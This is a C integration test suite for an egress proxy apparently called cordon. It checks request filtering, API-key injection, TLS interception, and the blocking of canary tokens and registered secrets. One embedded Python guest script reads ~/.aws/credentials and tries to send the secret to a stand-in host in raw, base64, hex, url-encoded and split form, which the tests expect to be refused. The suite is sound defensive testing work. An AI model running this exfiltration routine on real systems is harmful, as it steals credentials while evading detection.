/* HTTP inspection on a grant with "http" rules: each request judged on its
 * own, refused ones never reach the upstream, the session's placeholder key
 * swapped for the real one on the way out. The upstream is
 * tests/integration/http_upstream.py on the host's loopback; it logs every
 * request it receives. */
#include "tests/integration/harness.h"

#include <signal.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

TestSuite(http, .timeout = 90);

struct upstream {
    pid_t pid;
    int port;
    char log[64];
};

/* cert/key: NULL for plain HTTP. */
static void upstream_start(struct upstream *u, const char *real_key, const char *tag,
                           const char *cert, const char *key)
{
    snprintf(u->log, sizeof u->log, "/tmp/cordon-http-%s.log", tag);
    int p[2];
    cr_assert(pipe(p) == 0);
    u->pid = fork();
    if (u->pid == 0) {
        /* Gone with the test, even one that fails half-way. */
        prctl(PR_SET_PDEATHSIG, SIGTERM);
        dup2(p[1], 1);
        close(p[0]);
        execl("/usr/bin/python3", "python3", "tests/integration/http_upstream.py", real_key, u->log, cert,
               key, (char *)NULL);
        _exit(127);
    }
    close(p[1]);
    FILE *f = fdopen(p[0], "r");
    cr_assert(f && fscanf(f, "%d", &u->port) == 1, "the upstream did not start");
    fclose(f);
}

/* The upstream's log, after stopping it. */
static char *upstream_stop(struct upstream *u)
{
    kill(u->pid, SIGTERM);
    waitpid(u->pid, NULL, 0);
    FILE *f = fopen(u->log, "r");
    char *text = calloc(1, 65536);
    if (f) {
        size_t n = fread(text, 1, 65535, f);
        text[n] = 0;
        fclose(f);
    }
    unlink(u->log);
    return text;
}

Test(http, requests_are_judged_one_by_one_and_the_real_key_is_injected)
{
    char tag[17], real[64], env[96], policy[64], text[1024], script[4096];
    random_tag(tag);
    snprintf(real, sizeof real, "sk-real-%s", tag);
    snprintf(env, sizeof env, "CORDON_TEST_REAL_KEY=%s", real);
    struct upstream u;
    upstream_start(&u, real, tag, NULL, NULL);
    snprintf(policy, sizeof policy, "/tmp/cordon-http-%s.json", tag);
    snprintf(text, sizeof text,
             "{\"egress\": [{\"host\": \"api.test\", \"port\": 80, \"upstream\": \"127.0.0.1:%d\",\n"
             "  \"http\": {\"methods\": [\"POST\", \"GET\"], \"paths\": [\"/v1/messages\", \"/v1/models/*\"],\n"
             "           \"deny_headers\": [\"X-Forwarded-Host\"], \"key_header\": \"x-api-key\",\n"
             "           \"session_key\": \"sk-session-%s\",\n"
             "           \"inject\": {\"header\": \"x-api-key\", \"value_env\": \"CORDON_TEST_REAL_KEY\"}}}]}\n",
             u.port, tag);
    FILE *f = fopen(policy, "w");
    fputs(text, f);
    fclose(f);
    snprintf(script, sizeof script,
             "import http.client, json, os, socket\n"
             "KEY = 'sk-session-%s'\n"
             "c = http.client.HTTPConnection('api.test', 80)\n"
             "for body in (b'one', iter([b'chun', b'ked'])):\n"
             "    c.request('POST', '/v1/messages', body=body, headers={'x-api-key': KEY},\n"
             "              encode_chunked=not isinstance(body, bytes))\n"
             "    r = c.getresponse(); d = json.loads(r.read()); print(r.status, d['real_key'], d['body'])\n"
             "s = socket.create_connection(('api.test', 80))\n"
             "s.sendall(b'GET /v1/models/a HTTP/1.1\\r\\nHost: api.test\\r\\nx-api-key: ' + KEY.encode() + b'\\r\\n\\r\\n' * 1\n"
             "          + b'GET /v1/models/b HTTP/1.1\\r\\nHost: api.test\\r\\nx-api-key: ' + KEY.encode() + b'\\r\\n\\r\\n')\n"
             "got = b''\n"
             "while got.count(b'HTTP/1.1 200') < 2 or not got.endswith(b'}'):\n"
             "    got += s.recv(4096)\n"
             "print('pipelined', got.count(b'\"real_key\": true'))\n"
             "for method, path, key, extra in (('POST', '/v1/files', KEY, {}),\n"
             "                                 ('DELETE', '/v1/messages', KEY, {}),\n"
             "                                 ('POST', '/v1/messages', 'sk-attacker', {}),\n"
             "                                 ('POST', '/v1/messages', KEY, {'X-Forwarded-Host': 'evil'})):\n"
             "    c = http.client.HTTPConnection('api.test', 80)\n"
             "    c.request(method, path, body=b'x', headers=dict({'x-api-key': key}, **extra))\n"
             "    r = c.getresponse(); print(r.status, json.loads(r.read())['reason'])\n"
             "print('real key seen:', any('%s' in v for v in os.environ.values()))\n",
             tag, real);
    const char *const opts[] = { "-v", "--policy", policy, NULL };
    const char *const cenv[] = { env, NULL };
    struct run_opts o = { .cordon_opts = opts, .env = cenv };
    RUN(r);
    run_guest(&r, &o, ARGV("python3", "-c", script));
    unlink(policy);
    char *log = upstream_stop(&u);
    assert_run(&r, 0,
               "200 True one\n"
               "200 True chunked\n"
               "pipelined 2\n"
               "403 path not allowed\n"
               "403 method not allowed\n"
               "403 the API key is not this session's\n"
               "403 header X-Forwarded-Host is denied\n"
               "real key seen: False\n");
    assert_contains(&r, err, "http blocked POST /v1/files");
    /* Only the four allowed requests reached the upstream, each with the
     * real key. */
    int lines = 0;
    for (char *p = log; (p = strchr(p, '\n')); p++)
        lines++;
    cr_assert_eq(lines, 4, "the upstream saw %d requests, want 4:\n%s", lines, log);
    cr_assert(!strstr(log, "/v1/files") && !strstr(log, "sk-attacker") && !strstr(log, "evil") &&
                  !strstr(log, "sk-session-"),
              "a refused request or the placeholder reached the upstream:\n%s", log);
    free(log);
}

/* A test CA and a certificate for api.test signed by it, in dir. */
static void make_certs(const char *dir)
{
    char script[2048];
    snprintf(script, sizeof script,
             "set -e; cd %s\n"
             "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 "
             "-subj /CN=cordon-test-upstream-ca -keyout ca.key -out ca.crt "
             "-addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign\n"
             "openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=api.test "
             "-keyout srv.key -out srv.csr\n"
             "printf 'subjectAltName=DNS:api.test\\n' > ext\n"
             "openssl x509 -req -in srv.csr -CA ca.crt -CAkey ca.key -CAcreateserial -days 2 "
             "-extfile ext -out srv.crt\n",
             dir);
    RUN(r);
    run_cmd(&r, NULL, ARGV("/bin/sh", "-c", script));
    cr_assert_eq(r.status, 0, "openssl failed:\n%s", r.err);
}

Test(http, https_through_interception_with_verification_on)
{
    char tag[17], dir[64], cert[96], key[96], ca[96], real[64], env[96], policy[128];
    char text[2048], script[2048];
    random_tag(tag);
    snprintf(dir, sizeof dir, "/tmp/cordon-tls-%s", tag);
    cr_assert(mkdir(dir, 0700) == 0);
    make_certs(dir);
    snprintf(cert, sizeof cert, "%s/srv.crt", dir);
    snprintf(key, sizeof key, "%s/srv.key", dir);
    snprintf(ca, sizeof ca, "%s/ca.crt", dir);
    snprintf(real, sizeof real, "sk-real-%s", tag);
    snprintf(env, sizeof env, "CORDON_TEST_REAL_KEY=%s", real);
    struct upstream u;
    upstream_start(&u, real, tag, cert, key);
    snprintf(policy, sizeof policy, "%s/policy.json", dir);
    /* other.test is served by the same upstream, whose certificate names
     * api.test only: the proxy must refuse it. */
    snprintf(text, sizeof text,
             "{\"egress\": [{\"host\": \"api.test\", \"port\": 443, \"tls\": \"intercept\",\n"
             "  \"upstream\": \"127.0.0.1:%d\", \"upstream_ca\": \"%s\",\n"
             "  \"http\": {\"paths\": [\"/v1/messages\"], \"key_header\": \"x-api-key\",\n"
             "           \"session_key\": \"sk-session\",\n"
             "           \"inject\": {\"header\": \"x-api-key\", \"value_env\": \"CORDON_TEST_REAL_KEY\"}}},\n"
             " {\"host\": \"other.test\", \"port\": 443, \"tls\": \"intercept\",\n"
             "  \"upstream\": \"127.0.0.1:%d\", \"upstream_ca\": \"%s\"}]}\n",
             u.port, ca, u.port, ca);
    FILE *f = fopen(policy, "w");
    fputs(text, f);
    fclose(f);
    snprintf(script, sizeof script,
             "curl -sS https://api.test/v1/messages -H 'x-api-key: sk-session' -d from-curl; echo\n"
             "curl -sS https://api.test/v1/files -H 'x-api-key: sk-session' -d x | "
             "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"reason\"])'\n"
             "python3 -c '\n"
             "import urllib.request\n"
             "r = urllib.request.Request(\"https://api.test/v1/messages\", data=b\"from-python\",\n"
             "                           headers={\"x-api-key\": \"sk-session\"})\n"
             "print(urllib.request.urlopen(r).read().decode())'\n"
             "curl -sS https://other.test/ >/dev/null 2>&1 || echo other.test refused\n"
             /* No variable: the system bundle holds the session CA too. */
             "env -u SSL_CERT_FILE -u REQUESTS_CA_BUNDLE -u CURL_CA_BUNDLE curl -sS "
             "https://api.test/v1/messages -H 'x-api-key: sk-session' -d from-system-bundle; echo\n");
    const char *const opts[] = { "-v", "--policy", policy, NULL };
    const char *const cenv[] = { env, NULL };
    struct run_opts o = { .cordon_opts = opts, .env = cenv };
    RUN(r);
    run_guest(&r, &o, ARGV("/bin/sh", "-c", script));
    char *log = upstream_stop(&u);
    RUN(cleanup);
    run_cmd(&cleanup, NULL, ARGV("rm", "-rf", dir));
    assert_run(&r, 0,
               "{\"real_key\": true, \"body\": \"from-curl\"}\n"
               "path not allowed\n"
               "{\"real_key\": true, \"body\": \"from-python\"}\n"
               "other.test refused\n"
               "{\"real_key\": true, \"body\": \"from-system-bundle\"}\n");
    assert_contains(&r, err, "upstream TLS refused other.test");
    cr_assert(!strstr(log, "/v1/files"), "a refused request reached the upstream:\n%s", log);
    free(log);
}

/* The canary on egress: a guest that read its canary file and sends it out
 * through a granted API, raw or encoded or split across chunks, is refused
 * before any of that request reaches the upstream. */
Test(http, canary_tokens_never_leave_in_any_encoding)
{
    char tag[17], policy[64], text[1024], script[4096];
    random_tag(tag);
    struct upstream u;
    upstream_start(&u, "sk-real", tag, NULL, NULL);
    snprintf(policy, sizeof policy, "/tmp/cordon-http-%s.json", tag);
    snprintf(text, sizeof text,
             "{\"egress\": [{\"host\": \"api.test\", \"port\": 80, \"upstream\": \"127.0.0.1:%d\",\n"
             "  \"http\": {\"methods\": [\"POST\"], \"paths\": [\"/v1/*\"]}}]}\n", u.port);
    FILE *f = fopen(policy, "w");
    fputs(text, f);
    fclose(f);
    snprintf(script, sizeof script,
             "import base64, http.client, json, os\n"
             "cred = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\n"
             "secret = [l.split(b'=')[1].strip() for l in cred.splitlines() if b'secret' in l][0]\n"
             "def post(path, body):\n"
             "    c = http.client.HTTPConnection('api.test', 80)\n"
             "    c.request('POST', path, body=body, encode_chunked=not isinstance(body, bytes))\n"
             "    r = c.getresponse(); d = json.loads(r.read())\n"
             "    print(r.status, d.get('reason', 'passed').split(' is in')[0])\n"
             "post('/v1/ok', b'hello')\n"
             "post('/v1/raw', cred)\n"
             "post('/v1/b64', base64.encodebytes(b'x' + cred))\n"
             "post('/v1/b64b', base64.b64encode(b'xy' + secret))\n"
             "post('/v1/hex', secret.hex().upper().encode())\n"
             "post('/v1/q?k=' + ''.join('%%%%%%02X' %% c for c in secret[:20]) + secret[20:].decode(), b'')\n"
             "post('/v1/split', iter([secret[:10], secret[10:]]))\n");
    const char *const opts[] = { "--policy", policy, "--canary", "/home/user/.aws/credentials",
                                 NULL };
    struct run_opts o = { .cordon_opts = opts };
    RUN(r);
    run_guest(&r, &o, ARGV("python3", "-c", script));
    unlink(policy);
    char *log = upstream_stop(&u);
    assert_run(&r, 0,
               "200 passed\n"
               "403 a canary token (raw)\n"
               "403 a canary token (base64)\n"
               "403 a canary token (base64)\n"
               "403 a canary token (hex)\n"
               "403 a canary token (url-encoded)\n"
               "403 a canary token (raw)\n");
    int lines = 0;
    for (char *p = log; (p = strchr(p, '\n')); p++)
        lines++;
    cr_assert_eq(lines, 1, "the upstream saw %d requests, want only the benign one:\n%s", lines,
                 log);
    free(log);
}

/* Registered secrets (the policy's "dlp" section: literal values and
 * variables of cordon's environment) are scanned like canaries: an inspected
 * request carrying one, in any encoding, is refused before it reaches the
 * upstream; a raw grant's connection is cut. Audit lines name the secret,
 * never its value. A value `inject` sends cannot be registered. */
Test(http, registered_secrets_never_leave)
{
    char tag[17], policy[64], text[1024], script[2048], lit[64], envval[64], env[128];
    random_tag(tag);
    snprintf(lit, sizeof lit, "lit-secret-%s", tag);
    snprintf(envval, sizeof envval, "env-secret-%s", tag);
    snprintf(env, sizeof env, "CORDON_TEST_DLP_SECRET=%s", envval);
    struct upstream u;
    upstream_start(&u, "sk-real", tag, NULL, NULL);
    snprintf(policy, sizeof policy, "/tmp/cordon-http-%s.json", tag);
    snprintf(text, sizeof text,
             "{\"egress\": [{\"host\": \"api.test\", \"port\": 80, \"upstream\": \"127.0.0.1:%d\",\n"
             "               \"http\": {\"methods\": [\"POST\"], \"paths\": [\"/v1/*\"]}},\n"
             "              {\"host\": \"raw.test\", \"port\": 80, \"upstream\": \"127.0.0.1:%d\"}],\n"
             " \"dlp\": {\"secrets\": [\"%s\"], \"secrets_env\": [\"CORDON_TEST_DLP_SECRET\"]}}\n",
             u.port, u.port, lit);
    FILE *f = fopen(policy, "w");
    fputs(text, f);
    fclose(f);
    snprintf(script, sizeof script,
             "import base64, http.client, json, socket\n"
             "lit, env = b'%s', b'%s'\n"
             "def post(path, body):\n"
             "    c = http.client.HTTPConnection('api.test', 80)\n"
             "    c.request('POST', path, body=body)\n"
             "    r = c.getresponse(); d = json.loads(r.read())\n"
             "    print(r.status, d.get('reason', 'passed').split(' is in')[0])\n"
             "post('/v1/ok', b'hello')\n"
             "post('/v1/lit', base64.b64encode(b'x' + lit))\n"
             "post('/v1/env', env.hex().encode())\n"
             "s = socket.create_connection(('raw.test', 80))\n"
             "s.sendall(b'POST /v1/raw HTTP/1.1\\r\\nHost: raw.test\\r\\nContent-Length: %%d\\r\\n\\r\\n' %% len(env) + env)\n"
             "got = b''\n"
             "while True:\n"
             "    try: d = s.recv(4096)\n"
             "    except ConnectionResetError: d = b''\n"
             "    if not d: break\n"
             "    got += d\n"
             "print('raw', len(got))\n",
             lit, envval);
    const char *const opts[] = { "-v", "--policy", policy, NULL };
    const char *const cenv[] = { env, NULL };
    struct run_opts o = { .cordon_opts = opts, .env = cenv };
    RUN(r);
    run_guest(&r, &o, ARGV("python3", "-c", script));
    char *log = upstream_stop(&u);
    assert_run(&r, 0,
               "200 passed\n"
               "403 a registered secret (base64)\n"
               "403 a registered secret (hex)\n"
               "raw 0\n");
    assert_contains(&r, err, "registered secret in egress");
    assert_contains(&r, err, "registered secret $CORDON_TEST_DLP_SECRET (raw)");
    cr_assert(!strstr(r.err, lit) && !strstr(r.err, envval), "a secret's value was logged:\n%s",
              r.err);
    int lines = 0;
    for (char *p = log; (p = strchr(p, '\n')); p++)
        lines++;
    cr_assert_eq(lines, 1, "the upstream saw %d requests, want only the benign one:\n%s", lines,
                 log);
    free(log);

    /* Bad sections are load errors that name the key. */
    static const struct {
        const char *dlp, *want;
    } bad[] = {
        { "{\"secrets\": [\"short\"]}", "dlp.secrets[0]: a secret must be 8 to 200 bytes long" },
        { "{\"secrets_env\": [\"CORDON_TEST_UNSET_VARIABLE\"]}",
          "dlp.secrets_env[0]: $CORDON_TEST_UNSET_VARIABLE is not set" },
        { "{\"secret\": []}", "dlp: unknown key \"secret\"" },
        { "{\"secrets_env\": [\"CORDON_TEST_DLP_SECRET\"]}, \"egress\": [{\"host\": \"a.test\", "
          "\"http\": {\"inject\": {\"header\": \"x-api-key\", \"value_env\": \"CORDON_TEST_DLP_SECRET\"}}}]",
          "$CORDON_TEST_DLP_SECRET is the credential" },
    };
    for (size_t k = 0; k < sizeof bad / sizeof bad[0]; k++) {
        f = fopen(policy, "w");
        fprintf(f, "{\"dlp\": %s}\n", bad[k].dlp);
        fclose(f);
        RUN(b);
        run_cordon_cli(&b, &o, ARGV("run", "--policy", policy, "--", "true"));
        assert_status(&b, 125);
        assert_contains(&b, err, bad[k].want);
    }
    unlink(policy);
}
